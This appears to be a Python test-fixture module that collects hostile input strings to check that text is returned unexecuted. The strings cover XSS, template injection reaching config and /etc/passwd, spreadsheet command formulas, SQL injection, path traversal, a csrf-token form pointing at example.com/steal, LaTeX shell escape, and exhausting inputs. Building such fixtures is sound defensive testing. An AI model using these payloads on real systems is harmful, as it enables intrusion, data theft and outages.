"""Texts that try to run, break out, mislead or exhaust. They are words: they come back as words.

``EXECUTED`` is what a template engine would make of the sums in them.
"""

SUM, EXECUTED = "7777*7777", "60481729"

SCRIPTS = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p></section></main><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onfocus=alert(1) autofocus='",
    '" autofocus onfocus="alert(1)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "javascript:alert(1)",
    "[押してください](javascript:alert(1))",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=https://example.com/steal><input name=csrf_token></form>",
    "<base href='https://example.com/'>",
    "<meta http-equiv=refresh content='0;url=https://example.com/'>",
    "<!--<script>--><script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>\u2029",
)
TEMPLATES = (
    f"{{{{ {SUM} }}}}",
    f"{{% print({SUM}) %}}",
    f"${{{SUM}}} #{{{SUM}}} <%= {SUM} %>",
    "{{ config.items() }}{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(999999999) %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "%(csrf_token)s %s %n {0.__class__} {csrf_token}",
)
STYLES = (
    "<style>*{--a:x;--b:var(--a)var(--a);--c:var(--b)var(--b)}</style>",
    "</style><style>body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(https://example.com/x)'>",
    "@import url(https://example.com/x.css);",
    "expression(alert(1)) behavior:url(x.htc)",
)
MISLEADING = (
    "\u202e反対向き\u202c \u2066中\u2069 \u200f右",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "e" + "\u0301" * 300,
    "👨‍👩‍👧‍👦🏳️‍🌈\U0001f1ef\U0001f1f5" * 20,
    "\ufff9注釈\ufffa \ufffd \U000e0041\U000e0042",
    "ﷺ" * 100,
)
CELLS = (
    '=HYPERLINK("https://example.com","x")',
    "=cmd|' /C calc'!A0",
    "+1+1 @SUM(1+1) -2+3",
    "\t=1+1\r\n=1+1",
    "a\";b',c\td",
)
CONTROLS = (
    "\x00\x01\x02\x08\x0b\x0c\x0e\x1b[31m\x7f",
    "前\r\n\r後\x85x\u2028y",
    "BEGIN:VEVENT\r\nDTSTART:20260101\r\nEND:VEVENT\r\n",
    "Set-Cookie: a=b\r\nLocation: https://example.com/",
    "\\input{/etc/passwd} \\write18{id} \\u0000",
    "'; DROP TABLE cases; --",
    "../../../../etc/passwd\x00.pdf",
    "\U0010ffff\uffff\ufdd0",
)
EXHAUSTING = (
    "<div>" * 500 + "深い" + "</div>" * 500,
    "(" * 4_000 + ")" * 3_000,
    "「" * 7_000,
    "a" * 7_900,
    "あ" * 7_900,
    " " * 7_900 + "x",
    "\n".join("1." for _ in range(190)),
    "-" * 7_900,
    "a@" * 3_900,
    "１" * 7_900,
)
KINDS = {
    "scripts": SCRIPTS,
    "templates": TEMPLATES,
    "styles": STYLES,
    "misleading": MISLEADING,
    "cells": CELLS,
    "controls": CONTROLS,
}
TEXTS = (*(text for kind in KINDS.values() for text in kind), *EXHAUSTING)
# All of a kind together, as one seller might paste them, and the long ones each alone.
PASTED = {kind: "\n".join(texts) for kind, texts in KINDS.items()} | {
    f"exhausting {number}": text for number, text in enumerate(EXHAUSTING)
}
